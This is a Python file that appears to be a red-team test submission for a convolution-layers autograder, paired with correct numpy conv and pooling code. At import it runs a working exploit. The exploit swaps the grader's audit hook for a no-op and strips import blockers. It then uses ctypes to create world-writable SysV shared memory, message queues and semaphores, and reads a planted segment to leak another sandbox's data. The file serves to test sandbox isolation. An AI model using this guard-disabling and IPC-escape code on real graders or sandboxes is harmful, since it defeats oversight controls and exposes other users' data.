"""Red team: a channel between sandboxes (and a leftover on the host) through SysV IPC.

What it tries: switches the Python guards off (audit hook code swap), then
with `ctypes`: `shmget(0x52540001, 16 MiB, IPC_CREAT|0666)` + `shmat` and writes
a message; `msgget(0x52540002)` + `msgsnd`; `semget(0x52540004)`.  It also
attaches to segment 0x52540003, which the runner creates beforehand holding a
sentinel (standing for what an earlier student left there), and puts what it
reads into its feedback.  Functions are correct.

Attack worked if: an IPC object with a key 0x5254xxxx is left after the run,
or the runner's sentinel shows in its feedback (sound grader: an IPC
namespace or seccomp refusing SysV IPC).
Targets: conv_layers.
"""
# redteam-assignment: conv_layers
# redteam-expect: points<=33
# redteam-setup: serial

def _disable_python_guards():
    """Switch off the audit hook (swap its code for a no-op) and drop the import blocker."""
    import gc, sys, types
    done = []
    for obj in gc.get_objects():
        if type(obj) is types.FunctionType and obj.__closure__ and (
                obj.__name__ == "hook" or {"refuse_read_of", "refuse_write_to"} & set(obj.__code__.co_freevars)):
            names = obj.__code__.co_freevars
            source = ("def outer():\n" + "".join(f"    {name} = None\n" for name in names)
                      + "    def hook(event, args):\n        return (" + "".join(f"{name}, " for name in names)
                      + ") and None\n    return hook\n")
            namespace = {}
            exec(source, namespace)
            try:
                obj.__code__ = namespace["outer"]().__code__
                done.append("hook")
            except Exception:
                pass
    for finder in list(sys.meta_path):
        if type(finder).__name__ not in ("BuiltinImporter", "FrozenImporter", "PathFinder"):
            try:
                sys.meta_path.remove(finder)
                done.append("meta_path")
            except ValueError:
                pass
    return done

_REPORT = []


def _ipc():
    guards = _disable_python_guards()
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    shmid = libc.shmget(0x52540001, 16 << 20, 0o1666)
    if shmid >= 0:
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, b"left by a red-team submission", 29)
            _REPORT.append("RT-" + "BREACH shm created")
    queue = libc.msgget(0x52540002, 0o1666)
    if queue >= 0:
        message = ctypes.create_string_buffer(b"\x01\x00\x00\x00\x00\x00\x00\x00hello", 13)
        libc.msgsnd(queue, message, 5, 0)
        _REPORT.append("RT-" + "BREACH msg queue")
    if libc.semget(0x52540004, 1, 0o1666) >= 0:
        _REPORT.append("RT-" + "BREACH semaphore")
    planted = libc.shmget(0x52540003, 0, 0)
    if planted >= 0:
        address = libc.shmat(planted, None, 0o10000)  # SHM_RDONLY
        if address not in (None, ctypes.c_void_p(-1).value):
            _REPORT.append(ctypes.string_at(address, 40).split(b"\0")[0].decode(errors="replace"))
    if not _REPORT:
        _REPORT.append(f"guards {guards}, errno {ctypes.get_errno()}")


try:
    _ipc()
except BaseException as error:
    _REPORT.append(f"{type(error).__name__}: {error}"[:100])

import numpy as np  # noqa: E402


# --- honest implementations (copied from examples/conv_layers/correct.py) ---

def zero_pad(x, pad):
    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)), mode="constant")


def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    span = dilation * (filter_size - 1) + 1
    room = in_size - span + 2 * pad
    if room < 0 or room % stride != 0:
        raise ValueError(f"filter does not fit: ({in_size} - {span} + 2*{pad}) / {stride} + 1")
    return room // stride + 1


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    if isinstance(filter_size, tuple):
        height, width = filter_size
    else:
        height = width = filter_size
    return num_filters * (height * width * in_channels + (1 if bias else 0))


def conv_forward_naive(x, w, b, conv_param):
    stride, pad = conv_param["stride"], conv_param["pad"]
    N, C, H, W = x.shape
    F, _, HH, WW = w.shape
    H_out = 1 + (H + 2 * pad - HH) // stride
    W_out = 1 + (W + 2 * pad - WW) // stride
    x_pad = zero_pad(x, pad)
    out = np.zeros((N, F, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
    cache = (x, w, b, conv_param)
    return out, cache


def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    stride, pad = conv_param["stride"], conv_param["pad"]
    HH, WW = w.shape[2:]
    H_out, W_out = dout.shape[2:]
    x_pad = zero_pad(x, pad)
    dx_pad = np.zeros_like(x_pad)
    dw = np.zeros_like(w)
    db = dout.sum(axis=(0, 2, 3))
    for i in range(H_out):
        for j in range(W_out):
            rows = slice(i * stride, i * stride + HH)
            cols = slice(j * stride, j * stride + WW)
            dw += np.tensordot(dout[:, :, i, j], x_pad[:, :, rows, cols], axes=([0], [0]))
            dx_pad[:, :, rows, cols] += np.tensordot(dout[:, :, i, j], w, axes=([1], [0]))
    dx = dx_pad[:, :, pad : pad + x.shape[2], pad : pad + x.shape[3]]
    return dx, dw, db


def max_pool_forward_naive(x, pool_param):
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    N, C, H, W = x.shape
    H_out = 1 + (H - ph) // stride
    W_out = 1 + (W - pw) // stride
    out = np.zeros((N, C, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            out[:, :, i, j] = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw].max(axis=(2, 3))
    cache = (x, pool_param)
    return out, cache


def max_pool_backward_naive(dout, cache):
    x, pool_param = cache
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    dx = np.zeros_like(x)
    for i in range(dout.shape[2]):
        for j in range(dout.shape[3]):
            window = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw]
            mask = window == window.max(axis=(2, 3), keepdims=True)
            dx[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw] += mask * dout[:, :, i, j][:, :, None, None]
    return dx


if any("RT-" in item for item in _REPORT):
    raise RuntimeError(" ; ".join(_REPORT)[:190])
